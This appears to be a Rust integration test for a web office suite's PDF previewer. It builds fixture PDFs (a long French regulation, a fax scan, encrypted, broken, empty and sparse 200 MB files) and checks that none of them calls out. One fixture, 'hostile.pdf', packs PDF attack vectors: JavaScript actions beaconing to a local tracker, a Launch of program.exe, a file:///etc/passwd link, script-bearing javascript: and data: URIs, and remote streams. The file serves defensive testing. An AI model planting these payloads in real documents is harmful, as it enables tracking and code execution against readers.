//! PDFs in the office: pages, text, search and links of a long one, a few pieces of a large one, one in a message, kind words for those
//! that cannot be shown; and hostile ones, which run nothing and call nobody. `browser/office_pdf.mjs` is the visitor.

use super::{append, empty, visit};
use crate::{
    harness::{Gateway, Imap},
    preview::{pdf, stream},
    submission::base64,
};
use std::{
    fs::{self, File},
    io::{Seek, SeekFrom, Write},
    net::TcpListener,
    path::Path,
};

/// Whose files and mail they are: of garonne, and of no other test.
const READER: &str = "u00870";
/// Octets of a PDF that nobody fetches whole.
const LARGE: u64 = 200 * 1024 * 1024;
const PAGES: usize = 60;
/// Objects of a PDF before those of its pages: catalogue, pages, two fonts.
const FIXED: usize = 4;

const FONT: &str = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>";
/// Japanese in a font that is not in the file, whose encoding is a table of ours.
const JAPANESE: &str = "<< /Type /Font /Subtype /Type0 /BaseFont /HeiseiMin-W3 /Encoding /90ms-RKSJ-H /DescendantFonts [<< \
    /Type /Font /Subtype /CIDFontType0 /BaseFont /HeiseiMin-W3 /CIDSystemInfo << /Registry (Adobe) /Ordering (Japan1) /Supplement 2 >> \
    /FontDescriptor << /Type /FontDescriptor /FontName /HeiseiMin-W3 /Flags 4 /FontBBox [0 -136 1000 859] /ItalicAngle 0 /Ascent 859 \
    /Descent -140 /CapHeight 709 /StemV 69 >> >>] >>";

/// Rules of a university: a heading and some lines on each page, which two words of the third and the last but two are in.
fn rules() -> Vec<u8> {
    let kids: Vec<String> = (0..PAGES).map(|page| format!("{} 0 R", FIXED + 1 + 2 * page)).collect();
    let mut objects = vec![
        "<< /Type /Catalog /Pages 2 0 R /Lang (fr) >>".to_owned(),
        format!("<< /Type /Pages /Kids [{}] /Count {PAGES} >>", kids.join(" ")),
        FONT.to_owned(),
        JAPANESE.to_owned(),
    ];
    for page in 0..PAGES {
        let links = "/Annots [<< /Type /Annot /Subtype /Link /Rect [72 640 300 656] /A << /S /URI /URI (https://example.org/) >> >> \
             << /Type /Annot /Subtype /Link /Rect [72 600 300 616] /Dest [FORTIETH /XYZ 0 842 0] >>]"
            .replace("FORTIETH", &kids[39]);
        let links = if page == 0 { links } else { String::new() };
        objects.push(format!(
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents {} 0 R \
             /Resources << /Font << /F 3 0 R /J 4 0 R >> >> {links} >>",
            FIXED + 2 + 2 * page
        ));
        let library = if page == 2 || page == PAGES - 3 { "La Biblioth\\350que universitaire" } else { "Les examens" };
        let lines: String =
            (0..20).map(|line| format!("0 -18 Td (Alin\\351a {} de cet article.) Tj ", line + 1)).collect();
        let japanese = if page == PAGES - 1 { "BT /J 20 Tf 72 160 Td <93FA967B8CEA> Tj ET" } else { "" };
        objects.push(stream(
            "",
            &format!(
                "0.54 0.08 0.22 rg 72 780 451 3 re f 0 g BT /F 26 Tf 72 740 Td (Article {}) Tj /F 14 Tf 0 -40 Td ({library}) Tj \
                 0 -54 Td (Le site de l'universit\\351) Tj 0 -40 Td (Voir l'article 40) Tj 0 -10 Td {lines} ET {japanese}",
                page + 1
            ),
        ));
    }
    pdf(&objects)
}

/// A scan as copiers make them, black: CCITT's group 4, of which a row like the one above is one bit (ITU-T T.6).
fn scan() -> Vec<u8> {
    // The first row: from white to black by two lengths (a run of nothing, one of 32), then each as the one before; and the end.
    let rows = 31;
    let bits = format!("001{}{}{}{}", "00110101", "000001101010", "11".repeat(rows), "000000000001000000000001");
    let octets: String = bits
        .as_bytes()
        .chunks(8)
        .map(|octet| {
            format!("{:02x}", u8::from_str_radix(&format!("{:0<8}", String::from_utf8_lossy(octet)), 2).unwrap())
        })
        .collect();
    let facts = "/Type /XObject /Subtype /Image /Width 32 /Height 32 /ColorSpace /DeviceGray /BitsPerComponent 1 \
                 /Filter [/ASCIIHexDecode /CCITTFaxDecode] /DecodeParms [null << /K -1 /Columns 32 /Rows 32 >>]";
    pdf(&[
        "<< /Type /Catalog /Pages 2 0 R >>".to_owned(),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned(),
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >> >>".to_owned(),
        stream("", "q 400 0 0 400 97 221 cm /X Do Q"),
        stream(facts, &format!("{octets}>")),
    ])
}

/// Everything that a PDF may ask for beside being shown: scripts at its opening, at each page and key, programs, forms, files of elsewhere.
fn hostile(tracker: &str) -> Vec<u8> {
    let script = format!(
        "/S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('{tracker}/js'\\); app.launchURL\\('{tracker}/launch'\\); ran\\(\\);)"
    );
    let link = |rect: &str, action: &str| {
        format!("<< /Type /Annot /Subtype /Link /Rect [{rect}] /Border [0 0 1] /A << {action} >> >>")
    };
    let links = [
        link("72 700 500 730", &script),
        link("72 660 500 690", "/S /Launch /F (program.exe) /NewWindow true"),
        link("72 620 500 650", &format!("/S /SubmitForm /F << /FS /URL /F ({tracker}/form) >> /Flags 4")),
        link("72 580 500 610", "/S /URI /URI (javascript:ran\\(\\))"),
        link("72 540 500 570", "/S /URI /URI (file:///etc/passwd)"),
        link("72 500 500 530", "/S /GoToR /F (../other.pdf) /D [0 /Fit]"),
        link("72 460 500 490", "/S /URI /URI (data:text/html,<script>ran\\(\\)</script>)"),
        link("72 420 500 450", &format!("/S /ImportData /F << /FS /URL /F ({tracker}/data) >>")),
    ];
    let button = format!(
        "<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [72 300 300 340] /MK << /CA (Send) >> \
         /A << {script} >> /AA << /E << {script} >> /PO << {script} >> >> >>"
    );
    let field = format!(
        "<< /Type /Annot /Subtype /Widget /FT /Tx /T (sum) /V (<img src={tracker}/v>) /Rect [72 240 300 280] /DA (/F 12 Tf) \
         /AA << /K << {script} >> /F << {script} >> /C << {script} >> >> >>"
    );
    let form = format!(
        "<template><script contentType='application/x-javascript'>ran()</script><image href='{tracker}/xfa'/></template>"
    );
    pdf(&[
        format!(
            "<< /Type /Catalog /Pages 2 0 R /OpenAction << {script} >> /AA << /WC << {script} >> >> \
             /Names << /JavaScript << /Names [(a) << {script} >>] >> >> \
             /AcroForm << /Fields [6 0 R 7 0 R] /CO [7 0 R] /NeedAppearances true /XFA 8 0 R >> >>"
        ),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned(),
        format!(
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents [4 0 R 9 0 R] /AA << /O << {script} >> >> \
             /Resources << /Font << /F 5 0 R >> /XObject << /X 10 0 R /R 11 0 R >> >> /Annots [{} 6 0 R 7 0 R] >>",
            links.join(" ")
        ),
        stream(
            "",
            "BT /F 20 Tf 72 780 Td (<script>ran\\(\\)</script> Hostile) Tj ET q 100 0 0 100 400 100 cm /X Do Q /R Do",
        ),
        "<< /Type /Font /Subtype /TrueType /BaseFont /Far /FontDescriptor << /Type /FontDescriptor /FontName /Far /Flags 32 /FontFile2 12 0 R >> \
             /FontMatrix [1 0 0 1 0 (alert\\(1\\); ran\\(\\))] /Encoding /WinAnsiEncoding /FirstChar 32 /LastChar 32 /Widths [600] >>"
            .to_owned(),
        button,
        field,
        stream("", &form),
        // Streams whose octets are elsewhere (ISO 32000-1, 7.3.8.2).
        stream(&format!("/F << /FS /URL /F ({tracker}/stream) >>"), ""),
        stream(
            &format!(
                "/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceRGB /BitsPerComponent 8 \
                 /F << /FS /URL /F ({tracker}/image) >>"
            ),
            "abc",
        ),
        stream(
            &format!(
                "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F << /FS /URL /F ({tracker}/reference) >> /Page 0 >> \
                 /OPI << /2.0 << /Type /OPI /Version 2.0 /F << /FS /URL /F ({tracker}/opi) >> >> >>"
            ),
            "0 0 1 1 re f",
        ),
        stream(&format!("/F << /FS /URL /F ({tracker}/font) >>"), ""),
    ])
}

/// Its key is of a password that nobody has.
fn locked() -> Vec<u8> {
    let encryption =
        format!("<< /Filter /Standard /V 1 /R 2 /P -4 /O <{}> /U <{}> >>", "a1".repeat(32), "b2".repeat(32));
    let file = String::from_utf8(pdf(&[
        "<< /Type /Catalog /Pages 2 0 R >>".to_owned(),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned(),
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>".to_owned(),
    ]));
    let trailer = format!("/Root 1 0 R /Encrypt {encryption} /ID [<{0}> <{0}>]", "c3".repeat(16));
    file.unwrap().replace("/Root 1 0 R", &trailer).into_bytes()
}

/// A page, and 200 MB that no page needs; on the disk it takes a few blocks.
fn large(path: &Path) {
    let mut file = File::create(path).unwrap();
    let mut places = Vec::new();
    let write = |file: &mut File, text: &str| {
        file.write_all(text.as_bytes()).unwrap();
        file.stream_position().unwrap()
    };
    let mut begin = write(&mut file, "%PDF-1.7\n");
    for object in [
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 6 0 R /Resources << /Font << /F 4 0 R >> >> >>",
        FONT,
    ] {
        places.push(begin);
        begin = write(&mut file, &format!("{} 0 obj\n{object}\nendobj\n", places.len()));
    }
    places.push(begin);
    write(&mut file, &format!("5 0 obj\n<< /Length {LARGE} >>\nstream\n"));
    file.seek(SeekFrom::Current(i64::try_from(LARGE).unwrap())).unwrap();
    begin = write(&mut file, "\nendstream\nendobj\n");
    places.push(begin);
    let table =
        write(&mut file, &format!("6 0 obj\n{}\nendobj\n", stream("", "BT /F 30 Tf 72 700 Td (Behind 200 MB) Tj ET")));
    let rows: String = places.iter().map(|place| format!("{place:010} 00000 n \n")).collect();
    write(
        &mut file,
        &format!(
            "xref\n0 7\n0000000000 65535 f \n{rows}trailer\n<< /Size 7 /Root 1 0 R >>\nstartxref\n{table}\n%%EOF\n"
        ),
    );
}

#[test]
fn pdfs_are_read_in_the_page() {
    let gateway = Gateway::start("office-pdf");
    // Whoever is called by a PDF hears it.
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let tracker = listener.local_addr().unwrap();
    let home = gateway.home("garonne", READER).join("PDF");
    fs::create_dir_all(&home).unwrap();
    let rules = rules();
    for (name, octets) in [
        ("Règlement.pdf", &rules),
        ("scan.pdf", &scan()),
        ("hostile.pdf", &hostile(&format!("http://{tracker}"))),
        ("locked.pdf", &locked()),
        ("broken.pdf", &b"%PDF-1.7\nnothing that follows is one".to_vec()),
        ("empty.pdf", &Vec::new()),
    ] {
        fs::write(home.join(name), octets).unwrap();
    }
    large(&home.join("large.pdf"));
    let mut imap = Imap::log_in(gateway.imap, &format!("{READER}@a.test"), &format!("pw-{READER}"));
    empty(&mut imap);
    let attached = base64(std::str::from_utf8(&rules).unwrap());
    let attached = attached.as_bytes().chunks(76).map(String::from_utf8_lossy).collect::<Vec<_>>().join("\n");
    append(
        &mut imap,
        "INBOX",
        "",
        &format!(
            "From: Ada Roux <u00001@a.test>\nTo: {READER}@a.test\nSubject: Le reglement\nMessage-ID: <pdf@a.test>\n\
             Date: Tue, 24 Nov 2026 10:00:00 +0100\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=m\n\n--m\n\
             Content-Type: text/plain; charset=utf-8\n\nVoici.\n\n--m\nContent-Type: application/octet-stream; name=\"reglement.pdf\"\n\
             Content-Disposition: attachment; filename=\"reglement.pdf\"\nContent-Transfer-Encoding: base64\n\n{attached}\n--m--\n"
        ),
    );
    visit("office_pdf.mjs", &gateway, &[READER]);
    listener.set_nonblocking(true).unwrap();
    assert!(listener.accept().is_err(), "a PDF called out");
    assert!(!gateway.log().contains("panicked"));
}
